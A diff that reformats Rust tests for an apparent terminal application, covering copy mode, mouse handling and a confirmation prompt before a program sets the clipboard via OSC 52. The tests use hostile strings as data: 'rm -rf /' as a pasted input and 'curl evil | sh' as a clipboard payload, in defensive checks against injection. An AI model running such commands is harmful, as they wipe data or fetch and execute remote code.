@@ -97,7 +97,10 @@ fn nothing_reaches_the_program_and_q_and_esc_lead_back() {
     fixture.send(Message::Paste("rm -rf /".to_owned()));
     assert!(fixture.effects.is_empty());
     fixture.press("v esc");
-    assert!(fixture.model.sessions.tabs[0].copy.is_some(), "first the selection goes");
+    assert!(
+        fixture.model.sessions.tabs[0].copy.is_some(),
+        "first the selection goes"
+    );
     fixture.press("esc");
     assert!(fixture.model.sessions.tabs[0].copy.is_none());
     fixture.press("x");
@@ -188,7 +191,12 @@ fn the_mouse_is_the_programs_where_it_asked_for_it() {
     drag(&mut fixture, (0, 0), (6, 0));
     assert!(copied(&mut fixture).is_empty());
     drag(&mut fixture, (0, 0), (6, 0));
-    assert!(fixture.effects.iter().all(|effect| matches!(effect, Effect::Send { .. })));
+    assert!(
+        fixture
+            .effects
+            .iter()
+            .all(|effect| matches!(effect, Effect::Send { .. }))
+    );
     assert_eq!(fixture.effects.len(), 3);
     fixture.effects.clear();
     fixture.press("ctrl-\\ [");
@@ -255,7 +263,10 @@ fn an_ended_session_can_still_be_read() {
 /// OSC 52 with this text.
 fn osc52(text: &str) -> String {
     use base64::Engine as _;
-    format!("\x1b]52;c;{}\x07", base64::engine::general_purpose::STANDARD.encode(text))
+    format!(
+        "\x1b]52;c;{}\x07",
+        base64::engine::general_purpose::STANDARD.encode(text)
+    )
 }
 
 /// A role whose file says this about its clipboard, in this environment; its session.
@@ -280,8 +291,14 @@ fn a_program_asks_before_it_sets_the_clipboard_and_no_is_the_answer() {
     let (mut fixture, tab) = session_with("dev", "");
     printed(&mut fixture, tab, &osc52("curl evil | sh\n"));
     let picture = fixture.picture();
-    assert!(picture.contains("psql in shell wants to set the clipboard"), "{picture}");
-    assert!(picture.contains("to 15 B:") && picture.contains("curl evil | sh⏎"), "{picture}");
+    assert!(
+        picture.contains("psql in shell wants to set the clipboard"),
+        "{picture}"
+    );
+    assert!(
+        picture.contains("to 15 B:") && picture.contains("curl evil | sh⏎"),
+        "{picture}"
+    );
     fixture.press("Y enter");
     assert!(fixture.model.dialog.is_some(), "typed before it was seen");
     fixture.later(600);
